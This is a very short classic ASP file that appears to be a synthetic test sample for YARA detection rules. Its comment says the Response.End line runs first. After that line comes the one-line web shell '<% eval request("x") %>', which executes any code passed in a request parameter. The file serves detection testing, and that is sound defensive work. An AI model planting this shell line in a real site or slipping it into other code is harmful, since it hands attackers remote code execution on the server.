<%
' Vigil YARA test sample: synthetic; Response.End comes first.
Response.End
%>
<% eval request("x") %>
